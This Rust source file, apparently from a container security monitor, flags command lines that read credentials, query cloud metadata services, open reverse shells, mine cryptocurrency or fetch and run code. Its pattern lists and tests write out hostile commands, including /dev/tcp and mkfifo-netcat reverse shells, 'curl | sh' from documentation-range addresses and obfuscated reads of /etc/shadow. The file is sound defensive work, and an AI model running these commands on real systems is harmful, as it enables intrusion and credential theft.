//! What a command line gives away, whichever source saw it: an exec request, a container's command, a
//! process.
//!
//! Patterns are of what a command does, not of a tool's name where many tools do the same. They are meant
//! for command lines that somebody sent on purpose, so they may be broad.

use std::net::IpAddr;

use airside_types::redact;

mod readings;

/// The longest part of a command line that is looked at, in bytes: Linux runs no longer one.
const MAX_BYTES: usize = 2 << 20;

/// A command line in lower case, ready to be asked.
#[derive(Debug)]
pub(crate) struct Command {
    lower: String,
    /// Other ways to read it: as a shell does, and what is encoded in it.
    readings: Vec<String>,
}

/// Where a container's credentials lie: its service account, its environment, its host's keys.
const CREDENTIALS: [&str; 16] = [
    "serviceaccount/token",
    "secrets/kubernetes.io",
    "secrets/eks.amazonaws.com",
    "azure-identity-token",
    "/proc/1/environ",
    "/proc/self/environ",
    "/.aws/credentials",
    "/.kube/config",
    "/.docker/config.json",
    "/.git-credentials",
    "/.ssh/id_",
    "/etc/shadow",
    "/etc/kubernetes/admin.conf",
    "/etc/kubernetes/pki",
    "/var/lib/kubelet/pki",
    "/var/lib/kubelet/kubeconfig",
];

/// The same as whole paths, for commands that leave letters to the shell.
const CREDENTIAL_FILES: [&str; 12] = [
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
    "/proc/1/environ",
    "/proc/self/environ",
    "/root/.aws/credentials",
    "/root/.kube/config",
    "/root/.docker/config.json",
    "/etc/shadow",
    "/etc/kubernetes/admin.conf",
    "/etc/kubernetes/pki/ca.key",
    "/var/lib/kubelet/pki/kubelet-client-current.pem",
];

/// The metadata services of AWS, Azure, Oracle and Google clouds, and of Alibaba's.
const METADATA: [&str; 6] = [
    "169.254.169.254",
    "169.254.170.2",
    "fd00:ec2::254",
    "metadata.google",
    "metadata.goog",
    "100.100.100.200",
];

const REVERSE_SHELL: [&str; 12] = [
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "nc -c",
    "--sh-exec",
    "pty.spawn",
    "socat exec",
    "socat tcp",
    "0<&196",
    "fsockopen",
    "io::socket::inet",
];

const MINER: [&str; 10] = [
    "stratum+tcp",
    "stratum+ssl",
    "stratum2+tcp",
    "--donate-level",
    "xmrig",
    "minerd",
    "cpuminer",
    "--coin=monero",
    "nicehash",
    "xmr-stak",
];

const SHELLS: [&str; 6] = ["sh", "bash", "ash", "dash", "zsh", "python3"];

impl Command {
    /// Takes a command line, cut to a bound.
    pub(crate) fn new(line: &str) -> Self {
        let cut = line.char_indices().map(|(at, _)| at).find(|at| *at >= MAX_BYTES);
        let kept = cut.and_then(|at| line.get(..at)).unwrap_or(line);
        let readings = readings::of(kept).split_off(1);
        Self { lower: kept.to_ascii_lowercase(), readings }
    }

    fn has_any(&self, patterns: &[&str]) -> bool {
        self.all_readings().any(|text| patterns.iter().any(|pattern| text.contains(pattern)))
    }

    fn all_readings(&self) -> impl Iterator<Item = &str> {
        std::iter::once(&self.lower).chain(&self.readings).map(String::as_str)
    }

    /// Reads a token, key or environment.
    pub(crate) fn reads_credentials(&self) -> bool {
        let is_meant =
            |word: &str| CREDENTIAL_FILES.iter().any(|path| readings::glob_means(word, path));
        self.has_any(&CREDENTIALS)
            || self.all_readings().any(|text| text.split_whitespace().any(is_meant))
    }

    /// Asks a cloud's metadata service.
    pub(crate) fn reaches_metadata(&self) -> bool {
        let is_metadata = |ip: IpAddr| METADATA.iter().any(|text| text.parse() == Ok(ip));
        self.has_any(&METADATA)
            || self.all_readings().any(|text| readings::addresses(text).any(is_metadata))
    }

    /// Hands a shell to a network connection.
    pub(crate) fn is_reverse_shell(&self) -> bool {
        let pipe_shell = self.has_any(&["mkfifo"])
            && self.has_any(&["nc ", "ncat ", "telnet ", "openssl s_client"]);
        let python = self.has_any(&["socket.socket"]) && self.has_any(&["subprocess", "os.dup2"]);
        self.has_any(&REVERSE_SHELL) || pipe_shell || python
    }

    /// Mines, by the protocol or the programs of miners.
    pub(crate) fn is_miner(&self) -> bool {
        self.has_any(&MINER)
    }

    /// Brings something in from the network.
    pub(crate) fn downloads(&self) -> bool {
        const TOOLS: [&str; 3] = ["curl", "wget", "aria2c"];
        let has_url = self.has_any(&["http://", "https://", "ftp://"]);
        // These programs take an address without a scheme as well.
        let has_host = |text: &str| {
            let mut words = text.split_whitespace();
            let tool = |word: &str| TOOLS.contains(&word.rsplit('/').next().unwrap_or(word));
            words.any(tool) && words.any(|word| !word.starts_with('-') && is_host_with_path(word))
        };
        let has_tool = || {
            let words = |text| words_of(text).any(|word| TOOLS.contains(&word));
            self.all_readings().any(words)
        };
        has_url && has_tool() || self.all_readings().any(has_host)
    }

    /// Runs what it fetches, or what it decodes.
    pub(crate) fn runs_what_it_fetches(&self) -> bool {
        let fetches = self.downloads() || self.has_any(&["base64 -d", "base64 --decode"]);
        let to_shell = self.lower.split('|').skip(1).any(|stage| {
            let program = stage.split_whitespace().find(|word| *word != "sudo").unwrap_or_default();
            let name = program.rsplit('/').next().unwrap_or(program);
            SHELLS.contains(&name.trim_end_matches(['"', '\'', ';', ')']))
        });
        let made_executable = self.downloads() && self.lower.contains("chmod +x");
        fetches && to_shell || made_executable
    }

    /// Writes an archive to standard output: how `kubectl cp` takes files out.
    pub(crate) fn archives_to_stdout(&self) -> bool {
        ["tar cf -", "tar -cf -", "tar czf -", "tar -czf -", "tar c "]
            .iter()
            .any(|pattern| self.all_readings().any(|text| starts_a_command(text, pattern)))
    }
}

/// The programs and arguments of a line, without the folders that they lie in.
fn words_of(line: &str) -> impl Iterator<Item = &str> {
    line.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '`' | '"' | '\''))
        .map(|word| word.rsplit('/').next().unwrap_or(word))
}

/// Whether a pattern stands where a command begins: first, behind a shell's `-c`, or after `;`, `|`, `&`.
fn starts_a_command(line: &str, pattern: &str) -> bool {
    line.match_indices(pattern).any(|(at, _)| {
        let before = line.get(..at).unwrap_or_default().trim_end_matches(['/', '"', '\'', ' ']);
        let folder = ["/bin", "/usr/bin", "/usr/local/bin"];
        let before = folder.iter().find_map(|folder| before.strip_suffix(folder)).unwrap_or(before);
        let before = before.trim_end_matches(['"', '\'', ' ']);
        before.is_empty() || before.ends_with(" -c") || before.ends_with([';', '|', '&', '('])
    })
}

/// `host.example/path`, `10.0.0.7:8000/x`: a host, and what is fetched from it.
fn is_host_with_path(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'']);
    let Some((host, path)) = word.split_once('/') else { return false };
    let host = host.split(':').next().unwrap_or(host);
    let is_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-');
    !path.is_empty() && host.contains('.') && !host.starts_with('.') && host.chars().all(is_name)
}

/// A command line as people may see it: credentials hidden, cut to `limit` characters.
pub(crate) fn shown(line: &str, limit: usize) -> String {
    let cut: String = line.chars().take(limit).collect();
    let mut text = redact::redact(&cut);
    if cut.len() < line.len() {
        text.push('…');
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_seen_for_what_they_do() {
        type Question = fn(&Command) -> bool;
        let table: &[(Question, &[&str], &[&str])] = &[
            (
                Command::reads_credentials,
                &[
                    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                    "cat /proc/1/environ",
                    "sh -c cat /var/run/secrets/*/*/tok*",
                    "sh -c c'a't /etc/sh\"ad\"ow",
                    "sh -c echo Y2F0IC9ldGMvc2hhZG93|base64 -d|sh",
                ],
                &["cat /etc/hostname", "env", "ls /var/run/*", "cat /etc/*"],
            ),
            (
                Command::reaches_metadata,
                &[
                    "curl -s http://169.254.169.254/latest/meta-data/",
                    "curl metadata.google.internal",
                    "curl http://2852039166/latest",
                    "wget 0xa9fea9fe",
                    "curl http://[::ffff:a9fe:a9fe]/",
                ],
                &["curl http://10.0.0.1/", "sleep 2852"],
            ),
            (
                Command::is_reverse_shell,
                &[
                    "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
                    "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f",
                ],
                &["nc -z db 5432", "bash -i"],
            ),
            (
                Command::is_miner,
                &["/tmp/.x -o stratum+tcp://pool.example.net:3333", "./xmrig --donate-level 1"],
                &["/app/miner-dashboard", "determiner"],
            ),
            (
                Command::downloads,
                &[
                    "wget -q http://198.51.100.23/x -O /tmp/.x",
                    "sh -c 'curl -fsSL https://x.example'",
                    "curl -s 198.51.100.23:8000/x -o /tmp/x",
                    "/usr/bin/wget files.example/x",
                ],
                &["echo https://x.example", "curl --version", "curl -o /tmp/x", "curl ./x.y/z"],
            ),
            (
                Command::runs_what_it_fetches,
                &[
                    "sh -c curl -fsSL http://198.51.100.23/w.sh | sh",
                    "echo aGk= | base64 -d | /bin/bash",
                    "wget http://x.example/a -O a && chmod +x a && ./a",
                ],
                &["curl https://x.example | jq .", "cat a.sh | sh"],
            ),
            (
                Command::archives_to_stdout,
                &["tar cf - /data", "sh -c tar cf - /data", "/bin/tar czf - .", "cd /; tar c ."],
                &["tar xf -", "start cf -", "echo tar cf -"],
            ),
        ];
        for (question, yes, no) in table {
            for line in *yes {
                assert!(question(&Command::new(line)), "{line}");
            }
            for line in *no {
                assert!(!question(&Command::new(line)), "{line}");
            }
        }
    }

    #[test]
    fn what_is_shown_is_cut_and_redacted() {
        assert_eq!(shown("mysql --password=hunter2", 80), "mysql --password=«redacted»");
        assert_eq!(shown("äöü", 2), "äö…");
    }
}
